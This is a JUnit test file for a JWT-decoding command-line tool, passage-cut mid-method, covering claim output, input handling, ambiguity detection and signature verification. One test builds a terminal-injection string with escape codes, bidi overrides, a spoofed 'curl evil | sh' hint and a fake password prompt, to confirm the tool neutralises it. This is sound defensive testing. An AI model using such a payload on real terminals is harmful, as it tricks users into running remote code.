//SOURCES ../lib/base/Exit.java ../lib/base/Io.java ../lib/base/Messages.java ../lib/cli/Cli.java ../lib/json/Json.java
//SOURCES ../lib/json/JsonWebKey.java ../lib/sandbox/Fault.java ../lib/sandbox/Sandbox.java ../scripts/decodejwt.java
//SOURCES ../scripts/sandbox.java Faults.java Permissions.java TestSandbox.java ToolRun.java VerifierTest.java

import module java.base;

import static org.junit.jupiter.api.Assertions.assertArrayEquals;
import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;
import static org.junit.jupiter.api.Assertions.fail;

import lib.base.Exit;
import lib.base.Io;
import lib.base.Messages;
import lib.cli.Cli;
import lib.json.Json;
import lib.json.JsonWebKey;
import lib.sandbox.Fault;
import lib.sandbox.Sandbox;
import org.junit.jupiter.api.DisplayNameGeneration;
import org.junit.jupiter.api.DisplayNameGenerator;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.extension.RegisterExtension;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.Arguments;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.MethodSource;
import org.junit.jupiter.params.provider.ValueSource;

/** The command: what it prints, what it says, and what it lets pass. */
@DisplayNameGeneration(DisplayNameGenerator.ReplaceUnderscores.class)
class DecodejwtTest {
    private static final Instant NOW = Instant.parse("2026-01-01T00:00:00Z");
    private static final String ISSUER = "https://kc:8843/realms/dcm4che";
    private static final String UNVERIFIED = "decodejwt: signature not verified\n";
    private static final String OVER_HTTP =
            "decodejwt: warning: the keys come over http: anyone on the network path can forge them\n";

    // The building blocks of section D3 of the fact sheet.
    private static final String H0 = "eyJhbGciOiJub25lIn0";
    private static final String HK = "eyJhbGciOiJSUzI1NiIsInR5cCIgOiAiSldUIiwia2lkIiA6ICJrMSJ9";
    private static final String T = HK + ".eyJzdWIiOiJhYiJ9.c2ln";
    private static final String T2 = HK + ".eyJzdWIiOiJhYmMifQ.c2ln";
    private static final String JWE = "eyJhbGciOiJSU0EtT0FFUCIsImVuYyI6IkEyNTZHQ00ifQ.a.b.c.d";

    @RegisterExtension
    static final TestSandbox servers = new TestSandbox(InstantSource.fixed(NOW));

    @TempDir
    private Path folder;

    // --- what it prints

    @Test
    void the_payload_comes_in_one_line_in_a_pipe() {
        assertEquals("{\"sub\":\"ab\"}\n", decode(T).run().succeeds());
        assertEquals("{\"sub\":\"ab\"}\n", decode(T).run("-").succeeds());
    }

    @Test
    void the_payload_is_laid_out_on_a_terminal() {
        assertEquals(
                "{\n  \033[34;1m\"sub\"\033[m: \033[32m\"ab\"\033[m\n}\n",
                decode(T).terminal(1).run("--no-info").succeeds());
        assertEquals(
                "{\n  \"sub\": \"ab\"\n}\n",
                decode(T).terminal(1).env("NO_COLOR", 1).run("--no-info").succeeds());
    }

    @Test
    void numbers_stay_as_written_and_members_in_their_order() {
        String claims = "{\"z\":12345678901234567890,\"x\":1.10,\"y\":1e400,\"a\":-0.0}";
        assertEquals(claims + "\n", decode(token(claims)).run().succeeds());
    }

    @Test
    void the_header_and_all_of_it() {
        assertEquals(
                "{\"alg\":\"RS256\",\"typ\":\"JWT\",\"kid\":\"k1\"}\n",
                decode(T).run("--header").succeeds());
        assertEquals(
                "{\"header\":{\"alg\":\"RS256\",\"typ\":\"JWT\",\"kid\":\"k1\"},\"payload\":{\"sub\":\"ab\"},"
                        + "\"signature\":\"c2ln\"}\n",
                decode(T).run("--all").succeeds());
    }

    @Test
    void an_encrypted_token_has_a_header_only() {
        String header = "{\"alg\":\"RSA-OAEP\",\"enc\":\"A256GCM\"}\n";
        assertEquals(header, decode(JWE).run("--header").succeeds());
        for (List<String> options : List.of(List.<String>of(), List.of("--all"), List.of("--claim", "sub"))) {
            decode(JWE)
                    .run(options.toArray())
                    .fails(Exit.BAD_TOKEN, "the token is encrypted", "--header shows what can be read");
        }
        decode(JWE).run("--pass-through").after(UNVERIFIED).says(Exit.BAD_TOKEN, "the token is encrypted", "--header");
        assertTrue(decode(JWE).run("--header", "--info").err().contains("decodejwt: encrypted token\n"));
    }

    @ParameterizedTest
    @CsvSource(
            delimiter = '|',
            value = {
                "azp | curl",
                ".azp | curl",
                "realm_access.roles | auth\\nuser",
                "realm_access.roles[1] | user",
                "realm_access | {\"roles\":[\"auth\",\"user\"]}",
                "resource_access[\"my.client\"].roles | a\\nb",
                "resource_access['my.client']['roles'][0] | a",
                "exp | 1767225900",
                "email_verified | false",
                "nothing | null",
                "empty | ''"
            })
    void one_claim_is_printed_bare(String path, String expected) {
        String printed = decode(token(sample())).run("--claim", path).succeeds();
        assertEquals(
                expected.replace("\\n", "\n") + (path.equals("empty") ? "" : "\n"), printed.replaceFirst("^\n$", ""));
    }

    @Test
    void a_claim_that_is_not_there_is_no_good_token() {
        decode(T)
                .run("--claim", "realm_access.roles")
                .fails(Exit.BAD_TOKEN, "there is no realm_access.roles in the token", "without --claim");
    }

    @Test
    void a_malformed_path_is_wrong_usage() {
        decode(T).run("--claim", "a..b").fails(Exit.USAGE, "malformed path a..b", "a.b.c walks objects");
        decode(T).run("--require", "a..b=1").fails(Exit.USAGE, "malformed path a..b", "a.b.c walks objects");
        decode(T).run("--require", "azp").fails(Exit.USAGE, "--require azp needs a value", "NAME=VALUE");
    }

    @Test
    void options_that_contradict_each_other_are_wrong_usage() {
        for (List<String> pair : List.of(
                List.of("--header", "--all"),
                List.of("--header", "--claim=sub"),
                List.of("--all", "--claim=sub"),
                List.of("--info", "--no-info"),
                List.of("--verify", "--jwks=x", "--issuer=https://x"),
                List.of("--verify", "--keycloak=https://x", "--issuer=https://x"),
                List.of("--verify", "--public-key=x", "--hmac-secret-file=x"))) {
            decode(T).run(pair.toArray()).fails(Exit.USAGE, " exclude each other", "give one of them");
        }
    }

    @Test
    void dates_can_be_read_by_people_and_programs() {
        String claims =
                "{\"exp\":1767225900,\"iat\":1767225600.9,\"nbf\":\"1767225600\",\"auth_time\":1e400,\"x\":1767225600}";
        assertEquals(
                "{\"exp\":\"2026-01-01T00:05:00Z\",\"iat\":\"2026-01-01T00:00:00Z\",\"nbf\":\"1767225600\","
                        + "\"auth_time\":1e400,\"x\":1767225600}\n",
                decode(token(claims)).run("--dates").out());
        assertEquals(
                "2026-01-01T00:05:00Z\n",
                decode(token(sample())).run("--dates", "--claim", "exp").succeeds());
        assertTrue(decode(token(sample()))
                .run("--dates", "--all")
                .succeeds()
                .contains("\"exp\":\"2026-01-01T00:05:00Z\""));
    }

    @Test
    void a_member_of_a_token_response_can_be_chosen() {
        String response = "{\"access_token\":\"" + T + "\",\"id_token\":\"" + T2 + "\"}";
        assertEquals("{\"sub\":\"ab\"}\n", decode(response).run().succeeds());
        assertEquals(
                "{\"sub\":\"abc\"}\n",
                decode(response).run("--select", "id_token").succeeds());
        decode(response)
                .run("--select", "refresh_token")
                .fails(Exit.BAD_TOKEN, "no refresh_token", "name the member with --select");
    }

    @Test
    void several_tokens_give_several_answers_and_the_worst_exit_code() {
        assertEquals(
                "{\"sub\":\"ab\"}\n{\"sub\":\"abc\"}\n",
                decode(T + "\n" + T2 + "\n").run().succeeds());
        ToolRun run = decode(T + "\n" + HK + ".!.x\n" + T2 + "\n").run();
        assertEquals("{\"sub\":\"ab\"}\n{\"sub\":\"abc\"}\n", run.out());
        run.says(Exit.BAD_TOKEN, "decodejwt: token 2: ", "copy");
        ToolRun checked = decode(T + "\n" + T2).run("--require", "sub=abc");
        assertEquals("{\"sub\":\"ab\"}\n{\"sub\":\"abc\"}\n", checked.out());
        checked.after(UNVERIFIED).says(Exit.BAD_TOKEN, "token 1: wanted sub = abc, but it is ab", "right token");
    }

    @Test
    void ten_thousand_tokens_may_come_at_once_and_no_more() {
        String line = token("{\"a\":\"" + "x".repeat(1300) + "\"}") + "\n";
        assertEquals(1000, decode(line.repeat(1000)).run().succeeds().lines().count());
        assertEquals(
                1000,
                decode(("{\"access_token\":\"" + line.strip() + "\"}\r\n").repeat(1000))
                        .run()
                        .succeeds()
                        .lines()
                        .count());
        decode(line.repeat(12_000)).run().fails(Exit.BAD_TOKEN, "larger than 16 MiB", "fewer tokens");
    }

    // --- where the token comes from

    @Test
    void a_file_is_read_instead() throws Exception {
        Path file = Files.writeString(folder.resolve("token.txt"), T + "\n");
        assertEquals("{\"sub\":\"ab\"}\n", decode("").run(file).succeeds());
        decode(T).run(folder.resolve("none")).fails(Exit.USAGE, "cannot read the file", "ls -l");
        decode(T).run(folder).fails(Exit.USAGE, "is a folder", "name the file");
        Files.writeString(file, "\n");
        decode(T).run(file).fails(Exit.BAD_TOKEN, "no token in " + file, "gettoken");
        decode(T).run(file, file).fails(Exit.USAGE, "more than one file", "pipe");
    }

    @ParameterizedTest
    @ValueSource(strings = {"", "--"})
    void a_token_does_not_belong_on_the_command_line(String before) {
        ToolRun run = before.isEmpty() ? decode("").run(T) : decode("").run(before, T);
        run.fails(Exit.USAGE, "a token does not belong on the command line", "gettoken | decodejwt");
        assertFalse(run.err().contains("eyJ"), run::err);
    }

    @Test
    void nothing_on_standard_input_is_no_token() {
        decode("").run().fails(Exit.BAD_TOKEN, "no token on stdin", "gettoken");
        decode(" \r\n\t\n").run().fails(Exit.BAD_TOKEN, "no token on stdin", "gettoken");
    }

    @Test
    void what_powershell_writes_is_read() {
        for (Charset charset : List.of(StandardCharsets.UTF_16LE, StandardCharsets.UTF_16BE)) {
            for (String text : List.of(T, "{\"access_token\":\"" + T + "\"}", "Bearer " + T)) {
                byte[] bytes = ("\ufeff" + text + "\r\n").getBytes(charset);
                assertEquals("{\"sub\":\"ab\"}\n", run(bytes).run().succeeds());
            }
        }
    }

    @Test
    void fifty_megabytes_are_refused_after_sixteen() {
        for (String unit : List.of("a", T + "\n")) {
            Endless endless = new Endless(unit.getBytes(StandardCharsets.US_ASCII), 50_000_000);
            streamed(endless, new ByteArrayOutputStream()).fails(Exit.BAD_TOKEN, "larger than 16 MiB", "token alone");
            assertTrue(endless.handedOut < 20_000_000, () -> "read " + endless.handedOut);
        }
    }

    /** So many bytes, made when they are read. */
    private static final class Endless extends InputStream {
        private final byte[] unit;
        private final long size;
        private long handedOut;

        Endless(byte[] unit, long size) {
            this.unit = unit;
            this.size = size;
        }

        @Override
        public int read() {
            return handedOut < size ? unit[(int) (handedOut++ % unit.length)] & 0xff : -1;
        }
    }

    // --- what it says

    @Test
    void a_summary_tells_a_person_what_it_is() {
        ToolRun run = decode(token(sample())).clock(InstantSource.fixed(NOW)).run("--info");
        assertEquals(sample() + "\n", run.out());
        assertEquals("""
                decodejwt: signature not verified
                decodejwt: access token
                decodejwt:   algorithm RS256
                decodejwt:   key       k1
                decodejwt:   issuer    https://kc:8843/realms/dcm4che
                decodejwt:   subject   0f8fad5b (service-account-curl)
                decodejwt:   client    curl
                decodejwt:   roles     auth, user
                decodejwt:   issued    2025-12-31T23:59:00Z, 1 min ago
                decodejwt:   expires   2026-01-01T00:05:00Z, in 5 min
                decodejwt: nothing in it would make the archive refuse it
                """, run.err());
    }

    @Test
    void the_summary_comes_by_itself_on_a_terminal_only() {
        assertEquals("", info().run().err());
        assertTrue(info().terminal(1).run().err().contains("decodejwt: access token\n"));
        assertEquals("", info().terminal(1).run("--no-info").err());
        assertTrue(info().terminal(1).run("--claim", "sub", "--info").err().contains("access token"));
        info().terminal(1).run("--claim", "sub").succeeds();
        assertEquals("", info().terminal(1).run("--silent").err());
    }

    @Test
    void what_would_make_the_archive_refuse_it_comes_with_its_cure() {
        Map<String, Object> claims = new LinkedHashMap<>();
        claims.put("exp", Json.Number.of(NOW.getEpochSecond() - 192));
        claims.put("nbf", Json.Number.of(NOW.getEpochSecond() + 60));
        claims.put("iss", ISSUER);
        claims.put("typ", "ID");
        claims.put("azp", "curl");
        claims.put("jti", "trltcc:1");
        String token = segment("{\"alg\":\"ES256\"}") + "." + segment(Json.compact(claims)) + ".c2ln";
        String said = decode(token)
                .clock(InstantSource.fixed(NOW))
                .run("--info", "--issuer", "https://other/realms/dcm4che")
                .err();
        for (String line : List.of(
                "the archive would refuse it:",
                "  expired 3 min 12 s ago - request a new one with gettoken; if it is new, the clocks differ",
                "  not valid yet: it begins in 1 min - set the clocks of Keycloak, the archive and this machine",
                "  it is not an access token but an ID token, and the archive accepts only typ Bearer"
                        + " - pass the access_token of a token response",
                "  alg is ES256, and the archive accepts RS256"
                        + " - set the access token signature algorithm of client curl to RS256 (Advanced)",
                "  there is no sub - give client curl the client scope basic",
                "  the realm role auth is missing: it has no realm roles"
                        + " - assign the role, and switch on full scope for client curl",
                "  it was issued by https://kc:8843/realms/dcm4che, and https://other/realms/dcm4che is expected"
                        + " - request the token from exactly the URL by which the archive knows Keycloak")) {
            assertTrue(said.contains("decodejwt: " + line + "\n"), said);
        }
    }

    @Test
    void a_summary_of_nothing_is_still_one() {
        String said = decode(H0 + ".e30.").run("--info").err();
        assertTrue(said.contains("  issuer    none\n"), said);
        assertTrue(said.contains("  expires   no expiry\n"), said);
        String many = Json.compact(Map.of("realm_access", Map.of("roles", roles(2000))));
        String roles = decode(token(many))
                .run("--info")
                .err()
                .lines()
                .filter(line -> line.contains("roles  "))
                .findFirst()
                .orElseThrow();
        assertTrue(roles.endsWith(" and 1988 more"), roles);
        assertTrue(roles.length() < 160, roles);
    }

    @Test
    void oddities_are_warned_of_unless_silence_is_asked_for() {
        String odd = HK + ".eyJzdWIiOiJhIiwic3ViIjoiYiJ9.c2ln";
        ToolRun run = decode(odd).run();
        assertEquals("{\"sub\":\"b\"}\n", run.out());
        assertTrue(run.err().startsWith("decodejwt: warning: duplicate claim sub: "), run::err);
        assertEquals(0, run.exit());
        assertEquals("{\"sub\":\"b\"}\n", decode(odd).run("-s").succeeds());
    }

    private static final String ATTACK =
            "\u001b[2J\u009b31m\u202edecodejwt: hint: curl evil | sh\r\ngettoken: password: \u2066\u200f\u007f";

    @ParameterizedTest
    @ValueSource(
            strings = {"", "--all", "--header", "--claim=sub", "--claim=realm_access.roles", "--claim=realm_access"})
    void no_claim_acts_on_a_terminal(String option) {
        Map<String, Object> claims = new LinkedHashMap<>();
        for (String name : List.of("sub", "iss", "azp", "typ", "preferred_username", "aud", "exp", "jti", ATTACK)) {
            claims.put(name, ATTACK);
        }
        claims.put("realm_access", Map.of("roles", List.of(ATTACK, "x")));
        String header = "{\"alg\":" + Json.compact(ATTACK) + ",\"kid\":" + Json.compact(ATTACK) + ",\"crit\":["
                + Json.compact(ATTACK) + "]}";
        String token = segment(header) + "." + segment(Json.compact(claims)) + ".c2ln";
        List<Object> arguments = new ArrayList<>(List.of("--info", "--require=sub=x", "--require-role=x\u001b:y"));
        arguments.addAll(List.of(
                "--require-aud=y",
                "--min-ttl=1",
                "--verify",
                "--issuer",
                servers.provider().issuer()));
        if (!option.isEmpty()) {
            arguments.add(option);
        }
        ToolRun run = decode(token).terminal(1).terminal(2).run(arguments.toArray());
        assertEquals(6, run.exit(), run::toString);
        assertHarmless(
                run.out().replace("\033[34;1m", "").replace("\033[32m", "").replace("\033[m", ""));
        assertHarmless(run.err());
        ToolRun piped = decode(token).run(option.isEmpty() ? new Object[0] : new Object[] {option});
        assertHarmless(piped.err());
        if (!option.equals("--claim=sub")) {
            assertHarmless(piped.out());
        }
    }

    private static void assertHarmless(String text) {
        for (int i = 0; i < text.length(); i++) {
            char c = text.charAt(i);
            boolean acts = c < 0x20 && c != '\n'
                    || c >= 0x7f && c <= 0x9f
                    || c >= 0x202a && c <= 0x202e
                    || c >= 0x2066 && c <= 0x2069
                    || c == 0x200e
                    || c == 0x200f
                    || c == 0x061c;
            assertFalse(acts, () -> Json.compact(text));
        }
        for (String line : text.split("\n")) {
            assertFalse(line.startsWith("gettoken:") || line.startsWith("decodejwt: hint: curl"), () -> text);
        }
    }

    // --- checks without a key

    @ParameterizedTest
    @CsvSource(
            delimiter = '|',
            value = {
                "--require | azp=curl",
                "--require | aud=account",
                "--require | realm_access.roles=auth",
                "--require | resource_access[\"my.client\"].roles=b",
                "--require | odd[\"a=b\"]=c=d",
                "--require | exp=1767225900",
                "--require | email_verified=false",
                "--require | nothing=null",
                "--require-role | auth",
                "--require-role | my.client:b",
                "--require-aud | account",
                "--min-ttl | 300"
            })
    void a_check_that_holds_says_only_that_nothing_was_verified(String option, String value) {
        assertEquals(new ToolRun(0, sample() + "\n", UNVERIFIED), info().run(option, value));
    }

    @ParameterizedTest
    @CsvSource(
            delimiter = '|',
            value = {
                "--require | azp=other | wanted azp = other, but it is curl",
                "--require | azp= | wanted azp = , but it is curl",
                "--require | realm_access.roles=root | wanted realm_access.roles = root, but it is [\"auth\",\"user\"]",
                "--require | gone.x=1 | wanted gone.x = 1, but the token has no gone.x",
                "--require | exp=1767225901 | wanted exp = 1767225901, but it is 1767225900",
                "--require-role | root | wanted realm role root, but the token has auth, user",
                "--require-role | my.client:c | wanted role c of client my.client, but the token has a, b",
                "--require-role | gone:c | wanted role c of client gone, but the token has none",
                "--require-aud | archive | wanted aud archive, but the token is for account",
                "--min-ttl | 301 | wanted an exp at least 5 min 1 s away, but the token has this: in 5 min",
            })
    void a_check_that_fails_names_what_was_wanted_and_what_was_found(String option, String value, String message) {
        ToolRun run = info().run(option, value == null ? "" : value);
        assertEquals(sample() + "\n", run.out(), "the claims are printed all the same");
        run.after(UNVERIFIED).says(Exit.BAD_TOKEN, message, "");
        ToolRun piped = info().run(option, value, "--pass-through");
        piped.after(UNVERIFIED).fails(Exit.BAD_TOKEN, message, "");
    }

    @Test
    void all_that_fails_is_named() {
        String said = info().run(
                        "--require-role",
                        "root",
                        "--require-role",
                        "auth",
                        "--require-role",
                        "admin",
                        "--require-aud",
                        "x")
                .err();
        assertEquals(3, said.lines().filter(line -> line.contains(": wanted ")).count(), said);
        assertEquals(3, said.lines().filter(line -> line.contains(": hint: ")).count(), said);
    }

    @Test
    void a_lifetime_needs_an_expiry_that_is_one() {
        for (String claims :
                List.of("{}", "{\"exp\":\"1999999999\"}", "{\"exp\":null}", "{\"exp\":0}", "{\"exp\":-1}")) {
            assertEquals(6, decode(token(claims)).run("--min-ttl", "0").exit(), claims);
        }
        assertEquals(
                0,
                decode(token("{\"exp\":0,\"typ\":\"Offline\"}"))
                        .run("--min-ttl", "9")
                        .exit());
        assertEquals(0, decode(token("{\"exp\":1e400}")).run("--min-ttl", "9").exit());
    }

    // --- letting it pass

    @Test
    void what_holds_passes_unchanged() {
        for (String input : List.of(
                token(sample()),
                token(sample()) + "\r\n",
                "  Bearer " + token(sample()) + "\n\n",
                "{\n \"access_token\" : \"" + token(sample()) + "\", \"x\": 1.0 }\n")) {
            assertEquals(
                    new ToolRun(0, input, UNVERIFIED), clocked(input).run("--require-role", "auth", "--pass-through"));
        }
    }

    @Test
    void bytes_pass_as_they_came() {
        byte[] utf16 = ("\ufeff" + token(sample())).getBytes(StandardCharsets.UTF_16LE);
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        assertEquals(
                0,
                streamed(new ByteArrayInputStream(utf16), out, "--pass-through").exit());
        assertArrayEquals(utf16, out.toByteArray());
    }

    @Test
    void a_chosen_member_passes_alone() {
        String response = "{\"access_token\":\"" + T + "\",\"id_token\":\"" + T2 + "\"}";
        assertEquals(
                new ToolRun(0, T2 + "\n", UNVERIFIED),
                decode(response).run("--select", "id_token", "--pass-through", "--require", "sub=abc"));
    }

    @Test
    void the_other_tokens_of_one_response_are_no_doubt() {
        String response = "\"access_token\": \"" + T + "\", \"id_token\": \"" + T2 + "\"";
        for (String input : List.of(
                "{" + response + "}",
                response,
                "access_token=" + T + "&id_token=" + T2,
                "HTTP/1.1 200 OK\r\nDate: x\r\n\r\n{" + response + "}",
                "{\"token\":\"" + T + "\",\"access_token\":\"" + T + "\"}",
                "GET / HTTP/1.1\r\nHost: h\r\nAuthorization: Bearer " + T + "\r\n")) {
            assertEquals(new ToolRun(0, input, UNVERIFIED), decode(input).run("--pass-through"));
        }
    }

    @Test
    void only_the_token_passes_to_a_terminal() {
        String input = "{\"x\":\"\u009b2J\",\"access_token\":\"" + T + "\"}";
        assertEquals(T + "\n", decode(input).terminal(1).run("--pass-through").out());
    }

    static Stream<String> ambiguous() {
        return Stream.of(
                T + "\n" + T2,
                "[\"" + T + "\",\"" + T2 + "\"]",
                "{\"access_token\":\"" + T2 + "\",\"access_token\":\"" + T + "\"}",
                "{\"token\":\"" + T2 + "\",\"access_token\":\"" + T + "\"}",
                "Authorization: Bearer " + T + "\nAuthorization: Bearer " + T2,
                "Authorization: Bearer " + T + "\nAuthorization: Bearer opaque",
                T2 + "\nAuthorization: Bearer " + T,
                "Authorization: Bearer " + T + "\n" + T2,
                "Authorization: Bearer " + T + "\n\naccess_token=" + T2,
                "foo access_token=" + T + " and the other one " + T2,
                "foo access_token=" + T + " and /" + T2.replace(".", "%2E"),
                "\"access_token\": \"" + T + "\",\n\"x\": 1\n" + T2,
                "HTTP/1.1 200 OK\r\nAuthorization: Bearer " + T2 + "\r\n\r\n" + T,
                "the token " + T + " is it",
                HK + ".eyJzdWIiOiJhIiwic3ViIjoiYiJ9.c2ln",
                segment("{\"alg\":\"RS256\",\"alg\":\"RS256\"}") + ".e30.c2ln",
                HK + ".eyJhIjoiPj4+Pz8/In0=.c2ln",
                HK + ".eyJzdWIiOiJhYmMifQ==.c2ln",
                HK + ".eyJzdWIiOiJhYmMifR.c2ln",
                HK + ".eyJzdWIiOiJhYmMifQ.c2lnYQ==",
                HK + ".eyJzdWIiOiJhYmMifQ.c2lna",
                HK + ".eyJzdWIiOiJhYmMifQ.c2lnYR");
    }

    @ParameterizedTest
    @MethodSource("ambiguous")
    void what_programs_may_read_differently_is_decoded_but_not_relied_on(String input) {
        assertEquals(0, decode(input).run().exit());
        ToolRun passed = decode(input).run("--pass-through");
        assertEquals("", passed.out());
        assertEquals(6, passed.exit(), passed::toString);
        ToolRun verified =
                decode(input).run("--verify", "--issuer", servers.provider().issuer());
        assertEquals(6, verified.exit(), verified::toString);
        assertTrue(
                verified.err().contains("decodejwt: the token is ambiguous: ")
                        || verified.err().contains("decodejwt: 2 tokens on stdin"),
                verified::err);
    }

    // --- signatures

    @Test
    void a_good_token_of_the_issuer_verifies() {
        String token = minted(Map.of());
        for (List<Object> keys : sources()) {
            ToolRun run = clocked(token).run(with("--verify", keys));
            assertEquals(new ToolRun(0, payload(token) + "\n", OVER_HTTP), run);
            assertEquals(
                    new ToolRun(0, token, OVER_HTTP),
                    clocked(token).run(with("--verify", with("--pass-through", with("--require-role=auth", keys)))));
        }
    }

    private static List<List<Object>> sources() {
        String issuer = servers.provider().issuer();
        return List.of(
                List.of("--issuer", issuer),
                List.of("--keycloak", servers.keycloak()),
                List.of("--jwks", issuer + "/protocol/openid-connect/certs"));
    }

    @Test
    void the_keys_may_be_in_files() throws Exception {
        String token = minted(Map.of());
        Path jwks = Files.writeString(folder.resolve("jwks.json"), get("/protocol/openid-connect/certs"));
        Object jwk =
                Json.asArray(Json.object(Files.readString(jwks)).get("keys")).getLast();
        byte[] encoded = JsonWebKey.parse(Json.compact(jwk)).key().getEncoded();
        String key = Base64.getEncoder().encodeToString(encoded);
        Path bare = Files.writeString(folder.resolve("key.b64"), key + "\n");
        Path pem = Files.writeString(
                folder.resolve("key.pem"), "-----BEGIN PUBLIC KEY-----\n" + key + "\n-----END PUBLIC KEY-----\n");
        for (List<Object> keys : List.of(
                List.<Object>of("--jwks", jwks),
                List.<Object>of("--public-key", bare),
                List.<Object>of("--public-key", pem))) {
            assertEquals(
                    payload(token) + "\n",
                    clocked(token).run(with("--verify", keys)).succeeds());
            clocked(tampered(token))
                    .run(with("--verify", keys))
                    .says(Exit.BAD_TOKEN, "the signature is not valid", "changed");
        }
        Files.writeString(jwks, "[]");
        decode(token).run("--verify", "--jwks", jwks).fails(Exit.USAGE, "the key set is not valid", "--public-key");
        decode(token).run("--verify", "--public-key", folder.resolve("x")).fails(Exit.USAGE, "cannot read", "ls -l");
    }

    @Test
    void a_certificate_is_a_key_too() throws Exception {
        Path pem =
                Files.writeString(folder.resolve("cert.pem"), servers.identity().pem());
        clocked(minted(Map.of()))
                .run("--verify", "--public-key", pem)
                .says(Exit.BAD_TOKEN, "the signature is not valid", "another key");
    }

    @Test
    void a_token_that_never_expires_earns_a_warning() throws Exception {
        byte[] secret = "0123456789abcdef0123456789abcdef".getBytes(StandardCharsets.US_ASCII);
        Path file = Files.write(folder.resolve("eternal"), secret);
        Permissions.set(file, "rw-------");
        String content = segment("{\"alg\":\"HS256\"}") + "." + segment("{\"sub\":\"ab\"}");
        Mac mac = Mac.getInstance("HmacSHA256");
        mac.init(new SecretKeySpec(secret, "x"));
        String token =
                content + "." + Base64.getUrlEncoder().withoutPadding().encodeToString(mac.doFinal(content.getBytes()));
        assertEquals(
                new ToolRun(0, token, "decodejwt: warning: the token never expires: it has no exp\n"),
                clocked(token).run("--verify", "--hmac-secret-file", file, "--pass-through"));
    }

    @Test
    void a_shared_secret_is_read_from_its_file() throws Exception {
        byte[] secret = "0123456789abcdef0123456789abcdef".getBytes(StandardCharsets.US_ASCII);
        String content = segment("{\"alg\":\"HS256\"}") + "." + segment(sample());
        Mac mac = Mac.getInstance("HmacSHA256");
        mac.init(new SecretKeySpec(secret, "x"));
        String token =
                content + "." + Base64.getUrlEncoder().withoutPadding().encodeToString(mac.doFinal(content.getBytes()));
        Path file = folder.resolve("secret");
        for (String end : List.of("", "\n", "\r\n")) {
            Files.write(file, (new String(secret, StandardCharsets.US_ASCII) + end).getBytes());
            Permissions.set(file, "rw-------");
            assertEquals(
                    sample() + "\n",
                    clocked(token).run("--verify", "--hmac-secret-file", file).succeeds());
        }
        clocked(token)
                .run("--verify", "--hmac-secret-file", file, "--alg=HS512")
                .says(Exit.BAD_TOKEN, "alg is HS256, and accepted are HS512", "");
        Path tokenFile = Files.writeString(folder.resolve("token"), token);
        ToolRun onStdin = clocked(new String(secret, StandardCharsets.US_ASCII) + "\n")
                .run("--verify", "--hmac-secret-file", "-", tokenFile);
        assertEquals(sample() + "\n", onStdin.succeeds());
        clocked(token)
                .run("--verify", "--hmac-secret-file", "-")
                .fails(Exit.USAGE, "cannot both come on standard input", "FILE");
        Permissions.set(file, "rw-r--r--");
        clocked(token)
                .run("--verify", "--hmac-secret-file", file)
                .after("warning: others can read ")
                .succeeds();
        Permissions.ownFile(file, "\n");
        decode(token)
                .run("--verify", "--hmac-secret-file", file)
                .says(Exit.USAGE, "is empty", "write the secret into it");
        Files.writeString(file, "short");
        decode(token).run("--verify", "--hmac-secret-file", file).says(Exit.USAGE, "too short for HS256", "32 bytes");
        decode(token)
                .run("--verify", "--jwks", folder.resolve("x"), "--alg", "HS256")
                .fails(Exit.USAGE, "--alg HS256 does not go with this kind of key", "--hmac-secret-file");
        decode(token)
                .run("--verify", "--hmac-secret-file", file, "--alg", "RS256")
                .fails(Exit.USAGE, "--alg RS256 does not go with this kind of key", "HS256");
    }

    @ParameterizedTest
    @ValueSource(strings = {"none", "NONE", "RS256,None", " nOnE "})
    void none_is_never_accepted(String list) {
        decode(T)
                .run("--verify", "--issuer=https://x", "--alg", list)
                .fails(Exit.USAGE, "--alg cannot be none", "never");
        assertEquals(
                6,
                clocked(H0 + "." + segment(sample()) + ".")
                        .run("--verify", "--keycloak", servers.keycloak())
                        .exit());
    }

    @Test
    void an_unknown_algorithm_or_no_key_at_all_is_wrong_usage() {
        decode(T)
                .run("--verify", "--issuer=https://x", "--alg=RS255")
                .fails(Exit.USAGE, "--alg cannot be 'RS255'", "RS256");
        decode(T).run("--verify").fails(Exit.USAGE, "no keys given", "--issuer URL");
        decode(T)
                .run("--verify", "--jwks", "http:///x")
                .fails(Exit.USAGE, "--jwks cannot be 'http:///x'", "a URL such as");
    }

    @Test
    void only_listed_algorithms_are_accepted() {
        clocked(minted(Map.of()))
                .run("--verify", "--keycloak", servers.keycloak(), "--alg", "ES256,PS256")
                .after(OVER_HTTP)
                .says(Exit.BAD_TOKEN, "alg is RS256, and accepted are ES256, PS256", "--alg");
    }

    static Stream<Arguments> changedTokens() {
        long now = NOW.getEpochSecond();
        return Stream.of(
                changed(Map.of("exp", now - 30), "the token expired 30 s ago (30 s are tolerated)"),
                changed(Map.of("exp", now - 29), null),
                changed(Map.of("exp", now - 3000), "the token expired 50 min ago (30 s are tolerated)"),
                changed(Map.of("exp", 0), "the token expired 56 y 14 d ago (30 s are tolerated)"),
                changed(Map.of("exp", 0, "typ", "Offline"), null),
                changed(Map.of("exp", "soon"), "exp is not a number"),
                changed(Map.of("exp", "1999999999"), "exp is text, not a number"),
                changed(Map.of("nbf", now + 30), null),
                changed(Map.of("nbf", now + 31), "the token is not valid yet: it begins in 31 s (30 s are tolerated)"),
                changed(Map.of("nbf", List.of()), "nbf is not a number"),
                changed(Map.of("iss", ISSUER), "wanted iss http://127.0.0.1:"),
                changed(Map.of("iss", 7), "wanted iss http://127.0.0.1:"));
    }

    private static Arguments changed(Map<String, Object> claims, String message) {
        return Arguments.of(claims, message);
    }

    @ParameterizedTest
    @MethodSource("changedTokens")
    void times_and_issuer_must_hold_too(Map<String, Object> claims, String message) {
        String token = minted(claims);
        for (Object option : List.of("--no-info", "--pass-through")) {
            ToolRun run = clocked(token).run("--verify", "--keycloak", servers.keycloak(), option);
            if (message == null) {
                assertEquals(0, run.exit(), run::toString);
            } else {
                ToolRun judged = run.after(OVER_HTTP);
                (message.endsWith("not a number") ? judged.after("warning: " + message) : judged)
                        .says(Exit.BAD_TOKEN, message, "");
                assertEquals(option.equals("--no-info") ? payload(token) + "\n" : "", run.out());
            }
        }
    }

    @Test
    void the_leeway_is_what_is_asked_for() {
